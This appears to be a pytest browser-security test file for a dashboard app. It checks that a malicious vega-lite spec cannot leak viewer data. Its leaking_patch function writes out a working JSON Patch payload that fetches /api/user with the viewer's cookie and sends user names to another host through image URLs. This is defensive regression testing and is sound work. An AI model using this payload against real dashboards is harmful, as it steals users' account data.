"""A chart spec cannot make a viewer's browser send their data elsewhere.

The attack (issue 12): a ``vega-lite`` spec whose ``usermeta.embedOptions.patch`` edits the
compiled Vega spec in the browser, adding a data set fetched from ``/api/user`` with the
viewer's cookie and image marks whose URLs carry it to another host. An admin opens the
dashboard; a listener on a loopback port records every request that reaches it. Nothing
may arrive, and the chart must still draw.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import pytest
from flask import Flask

from gaugeboard.auth.api_tokens import create_token
from gaugeboard.auth.users import create_user
from tests.browser.documents import box, inline
from tests.browser.module_server import module_server
from tests.browser.signing_in import SignedIn
from tests.conftest import DEFAULT_PASSWORD, state
from tests.live_server import call_api
from tests.recording_server import RecordingServer

pytestmark = pytest.mark.browser

DRAWN = "() => !document.querySelector('.gb-widget[data-state=loading]')"
# After the chart has drawn, how long an image request has to reach the listener.
GRACE_SECONDS = 1.5


def leaking_patch(origin: str) -> list[dict[str, Any]]:
    """JSON Patch ops on the compiled Vega spec: fetch /api/user, then draw one image per
    user whose URL carries the name to ``origin``, and one image with a fixed URL."""
    image = {"x": {"value": 0}, "y": {"value": 0}, "width": {"value": 2}, "height": {"value": 2}}
    return [
        {
            "op": "add",
            "path": "/data/-",
            "value": {"name": "leak", "url": "/api/user", "format": {"property": "items"}},
        },
        {
            "op": "add",
            "path": "/marks/-",
            "value": {
                "type": "image",
                "encode": {
                    "update": {**image, "url": {"signal": f"'{origin}/leak?user=' + datum.name"}}
                },
            },
        },
        # The mark's `from` is copied from the chart's own mark, then pointed at "leak".
        {"op": "copy", "from": "/marks/0/from", "path": "/marks/1/from"},
        {"op": "replace", "path": "/marks/1/from/data", "value": "leak"},
        {
            "op": "add",
            "path": "/marks/-",
            "value": {
                "type": "image",
                "encode": {"update": {**image, "url": {"value": f"{origin}/ping"}}},
            },
        },
    ]


def malicious_dashboard(origin: str) -> dict[str, Any]:
    bars = {
        "mark": "bar",
        "encoding": {
            "x": {"field": "region", "type": "nominal"},
            "y": {"field": "total", "type": "quantitative"},
        },
    }
    embed_options = {"actions": True, "patch": leaking_patch(origin)}
    return {
        "title": "Regions",
        "name": "regions",
        "widgets": [
            {
                "id": "raw",
                "type": "vega-lite",
                "title": "Raw spec",
                "position": box(0, 0, 6, 4),
                "source": inline([{"region": "north", "total": 7}]),
                "spec": {**bars, "usermeta": {"embedOptions": embed_options}},
            },
            {
                "id": "overridden",
                "type": "bar",
                "title": "Bar with override",
                "position": box(6, 0, 6, 4),
                "source": inline([{"region": "south", "total": 3}]),
                "options": {"x": "region", "y": "total"},
                "override": {"usermeta": {"embedOptions": embed_options}},
            },
        ],
    }


@pytest.fixture(scope="module")
def listener() -> Iterator[RecordingServer]:
    """One listener for the module: nothing may reach it in any test, so what one test
    lets through also fails every later one."""
    with RecordingServer() as running:
        yield running


@pytest.fixture(scope="module")
def attacked_server(
    request: pytest.FixtureRequest, backend: str, listener: RecordingServer
) -> Iterator[str]:
    """A server with an admin ``root`` and an editor's dashboard carrying the patch."""
    secrets: list[str] = []

    def seed(app: Flask) -> None:
        with state(app).database.sessions() as session:
            create_user(session, "root", DEFAULT_PASSWORD, "admin")
            create_user(session, "ed", DEFAULT_PASSWORD, "editor")
            secrets.append(create_token(session, "ed", "browser test", 0)[1])
            session.commit()

    with module_server(request, backend, seed) as base_url:
        document = malicious_dashboard(listener.origin)
        call_api(base_url, secrets[0], "POST", "/api/dashboard", document)
        yield base_url


def open_as_admin(page: Any, signed_in: SignedIn, base_url: str) -> None:
    signed_in.open(page, base_url, "root", "/dashboards/regions")
    page.wait_for_function(DRAWN, timeout=30_000)


def test_patched_spec_sends_nothing_to_another_host(
    page: Any, attacked_server: str, listener: RecordingServer, signed_in: SignedIn
) -> None:
    open_as_admin(page, signed_in, attacked_server)
    time.sleep(GRACE_SECONDS)
    assert listener.targets == []


def test_patched_specs_still_draw_their_charts(
    page: Any, attacked_server: str, listener: RecordingServer, signed_in: SignedIn
) -> None:
    open_as_admin(page, signed_in, attacked_server)
    for widget_id in ("raw", "overridden"):
        assert page.locator(f"#widget-{widget_id} svg .mark-rect path").count() == 1


# Draw a spec straight through the page's own embed(), as if the server had not cleaned it.
DRAW_DIRECTLY = """async (spec) => {
  const page = document.querySelector("script[type=module][src*='/dashboard.js']").src;
  const { embed } = await import(page.replace(/dashboard[.]js.*$/, "widgets/vega.js"));
  const target = document.createElement("div");
  target.style.width = "300px";
  target.style.height = "200px";
  document.body.append(target);
  await embed(target, spec);
  return {
    actions: target.querySelectorAll(".vega-actions").length,
    images: target.querySelectorAll(".mark-image").length,
    bars: target.querySelectorAll(".mark-rect path").length,
  };
}"""


def test_page_ignores_embed_options_of_a_spec_it_is_handed(
    page: Any, attacked_server: str, listener: RecordingServer, signed_in: SignedIn
) -> None:
    open_as_admin(page, signed_in, attacked_server)
    document = malicious_dashboard(listener.origin)["widgets"][0]
    spec = {**document["spec"], "data": {"values": [{"region": "east", "total": 2}]}}
    drawn = page.evaluate(DRAW_DIRECTLY, spec)
    time.sleep(GRACE_SECONDS)
    assert (drawn, listener.targets) == ({"actions": 0, "images": 0, "bars": 1}, [])


def test_page_refuses_pictures_from_sites_its_widgets_do_not_use(
    page: Any, attacked_server: str, listener: RecordingServer, signed_in: SignedIn
) -> None:
    open_as_admin(page, signed_in, attacked_server)
    page.evaluate("(url) => { new Image().src = url; }", f"{listener.origin}/direct")
    time.sleep(GRACE_SECONDS)
    assert listener.targets == []


def test_patched_spec_gets_no_actions_menu(
    page: Any, attacked_server: str, listener: RecordingServer, signed_in: SignedIn
) -> None:
    open_as_admin(page, signed_in, attacked_server)
    assert page.locator(".vega-actions").count() == 0
